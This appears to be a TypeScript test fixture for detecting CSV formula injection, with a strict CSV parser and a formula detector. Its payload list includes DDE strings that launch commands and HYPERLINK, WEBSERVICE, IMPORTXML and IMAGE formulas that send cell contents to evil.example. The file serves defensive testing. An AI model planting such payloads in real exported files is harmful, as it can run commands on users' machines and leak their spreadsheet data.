/** Formulas in many spellings. Each has at most 60 characters, so that it fits into a name. */
export const formulas: readonly string[] = [
  '=1+1',
  '+1+1',
  '-1+1',
  '@SUM(1,1)',
  '=A1',
  '-A1',
  '=',
  '+',
  '-',
  '@',
  "=cmd|' /C calc'!A0",
  "+cmd|' /C calc'!A0",
  "-2+3+cmd|' /C calc'!A0",
  "@SUM(1+1)*cmd|' /C calc'!A0",
  '=DDE("cmd";"/C calc";"!A0")',
  '=HYPERLINK("https://evil.example/?x="&A1,"Open me")',
  '=WEBSERVICE("https://evil.example/"&A1)',
  '=IMPORTXML("https://evil.example/","//a")',
  '=IMAGE("https://evil.example/"&B2)',
  '\t=1+1',
  '   =1+1',
  '\u00a0=1+1',
  '\u3000+1',
  '\ufeff@A1',
  '＝1+1',
  '＋1+1',
  '－1+1',
  '＠SUM(1,1)',
  '=1+1","=2+2',
  '="a"\'=1',
];

/** Parses CSV as RFC 4180 defines it, and throws when the file is not valid. */
export function parseCells(file: string): string[][] {
  const rows: string[][] = [];
  const row: string[] = [];
  let remaining = file.replace(/^\uFEFF/, '');
  while (remaining !== '') {
    const match = /^(?:"((?:[^"]|"")*)"|([^",\r\n]*))(,|\r\n)/.exec(remaining);
    if (!match) throw new Error(`no cell begins here: ${remaining.slice(0, 60)}`);
    const [whole, quoted, plain = '', end] = match;
    row.push(quoted?.replaceAll('""', '"') ?? plain);
    if (end === '\r\n') rows.push(row.splice(0));
    remaining = remaining.slice(whole.length);
  }
  return rows;
}

/** A number is not a formula, even with a sign. */
export const isFormula = (cell: string) => /^[\s\0]*[=+\-@＝＋－＠]/.test(cell) && !/^-?\d+(\.\d+)?$/.test(cell);
